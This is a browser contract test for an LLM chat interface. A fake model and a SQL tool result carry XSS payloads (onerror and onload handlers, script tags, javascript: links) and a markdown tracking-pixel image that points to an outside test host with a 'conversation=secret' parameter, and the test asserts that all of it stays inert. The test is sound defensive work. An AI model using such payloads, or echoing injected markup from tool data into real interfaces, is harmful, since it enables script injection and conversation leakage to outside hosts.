// Contract: hostile content stays inert. A model answer carrying HTML with handlers, a javascript: link
// and a markdown image on a non-loopback host, and a query result carrying HTML (shown in the card, the
// result table, the timeline, and echoed by the model), before and after a reload. Every payload sets a
// window flag; the flag must stay unset, no request may leave loopback and the CSP must block nothing
// (a blocked inline handler would mean the markup reached the DOM).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFakeLlm, type FakeLlm } from '../../servers/fake-llm/fake-llm-server';
import {
  ask,
  expectClean,
  openChat,
  waitForChat,
  waitForIdle,
  type ContractPage,
} from '../chat-page';
import { launchBrowser } from '../harness';
import { lightConfig, serveWithConfig, type ConfigVariant } from './config-variant';
import type { FakeLlmReply, FakeLlmScript } from '../../servers/fake-llm/fake-llm-script';
import type { Browser, Page } from 'playwright-core';

/** A host outside loopback (TEST-NET-2): nothing may ever be fetched from it. */
const OUTSIDE = 'http://198.51.100.7';

const HOSTILE_ANSWER = [
  'Here is **bold** text.',
  `<img src="x" onerror="window.__pwned = 'img'">`,
  `<svg onload="window.__pwned = 'svg'"></svg>`,
  `<iframe src="javascript:window.__pwned = 'iframe'"></iframe>`,
  '[click me](javascript:window.__pwned=%27link%27)',
  `<a href="javascript:window.__pwned = 'anchor'">raw link</a>`,
  `![tracking pixel](${OUTSIDE}/pixel.png?conversation=secret)`,
  `<img src="${OUTSIDE}/raw.png">`,
  '<script>window.__pwned = "script"</script>',
].join('\n\n');

const HOSTILE_SQL =
  `SELECT '<img src=x onerror="window.__pwned=''cell''">' AS html, ` +
  `'<script>window.__pwned=''cell-script''</script>' AS script, ` +
  `'![leak](${OUTSIDE}/cell.png)' AS markdown`;

let fake: FakeLlm;

/** The content of the tool result the fake model's last request ends with. */
function lastToolResult(): string {
  const content = fake.requests.at(-1)?.body.messages?.at(-1)?.content;
  return typeof content === 'string' ? content : JSON.stringify(content);
}

const script: FakeLlmScript = {
  tokenDelayMs: 2,
  rules: [
    {
      user: 'hostile answer',
      reply: {
        reasoning: `Thinking <img src=x onerror="window.__pwned='reasoning'"> hard.`,
        text: HOSTILE_ANSWER,
      },
    },
    {
      user: 'hostile rows',
      reply: { toolCalls: [{ name: 'query', arguments: { sql_query: HOSTILE_SQL } }] },
    },
    {
      user: 'hostile rows',
      toolResult: 'cell',
      // A model that repeats what the data told it: the injected markup comes back in its answer.
      get reply(): FakeLlmReply {
        return { text: `The rows say **this**:\n\n${lastToolResult()}` };
      },
    },
  ],
  fallback: { text: 'Nothing scripted.' },
};

async function pwned(page: Page): Promise<unknown> {
  return page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned);
}

/** Asserts the transcript holds no live markup and no image from outside. */
async function expectInert(page: Page): Promise<void> {
  const log = page.locator('.mw-log');
  expect(await log.locator('script, iframe, svg, object, embed').count()).toBe(0);
  expect(await log.locator('[onerror], [onload], [onclick]').count()).toBe(0);
  expect(await log.locator('a[href^="javascript:" i]').count()).toBe(0);
  const images = await log
    .locator('img')
    .evaluateAll((nodes) => nodes.map((node) => node.getAttribute('src') ?? ''));
  expect(images.filter((source) => /^(?:https?:)?\/\//i.test(source))).toEqual([]);
  expect(await pwned(page)).toBeUndefined();
}

describe('contract: hostile content', () => {
  let browser: Browser;
  let variant: ConfigVariant;
  beforeAll(async () => {
    [browser, fake, variant] = await Promise.all([
      launchBrowser(),
      startFakeLlm({ script }),
      lightConfig().then((config) => serveWithConfig(JSON.stringify(config))),
    ]);
  });
  afterAll(async () => {
    await Promise.allSettled([browser?.close(), fake?.stop(), variant?.stop()]);
  });

  const open = (): Promise<ContractPage> =>
    openChat(browser, variant.appUrl, { endpoint: fake.url });

  it('a hostile answer: nothing runs, the outside image is not fetched, also after a reload', async () => {
    const opened = await open();
    const { page } = opened;
    await ask(page, `A hostile answer <img src=x onerror="window.__pwned='question'">, please`);
    await page.locator('.mw-answer strong', { hasText: 'bold' }).waitFor();
    await waitForIdle(page);
    await expectInert(page);
    // The outside images are offered as links the person may choose to open, not loaded.
    expect(await page.locator(`.mw-answer a[href^="${OUTSIDE}"]`).count()).toBe(2);
    // The person's own text is shown as text.
    expect(await page.locator('.mw-user-text').first().textContent()).toContain('<img src=x');
    // Links that are not outside pages can be clicked without effect.
    for (const link of await page.locator('.mw-answer a').all()) {
      const href = (await link.getAttribute('href')) ?? '';
      if (!href.startsWith(OUTSIDE)) await link.click({ force: true }).catch(() => undefined);
    }
    await page.waitForTimeout(300);
    expect(await pwned(page)).toBeUndefined();

    await page.reload();
    await waitForChat(page);
    await page.locator('.mw-answer strong', { hasText: 'bold' }).waitFor();
    await page.waitForTimeout(300);
    await expectInert(page);
    await expectClean(opened);
    await opened.context.close();
  });

  it('a tool result holding HTML: the card, the table, the timeline and the echoed answer stay inert', async () => {
    const opened = await open();
    const { page } = opened;
    await ask(page, 'Show me the hostile rows');
    const card = page.locator('.mw-approval-card');
    await card.waitFor();
    expect(await card.locator('.cm-content').textContent()).toContain('<script>');
    await card.getByRole('button', { name: 'Approve query' }).click();
    await page.locator('.mw-answer strong', { hasText: 'this' }).waitFor({ timeout: 60_000 });
    await waitForIdle(page);
    expect(lastToolResult()).toContain('onerror');
    // The markup is shown as text, where a person can read it.
    const cells = await page.locator('.mw-result-table tbody td').allTextContents();
    expect(cells).toContain(`<img src=x onerror="window.__pwned='cell'">`);
    await page.locator('.mw-call[data-tool="query"] summary').click();
    expect(await page.locator('.mw-call-result').textContent()).toContain('<script>');
    await expectInert(page);
    await expectClean(opened);
    await opened.context.close();
  });
});
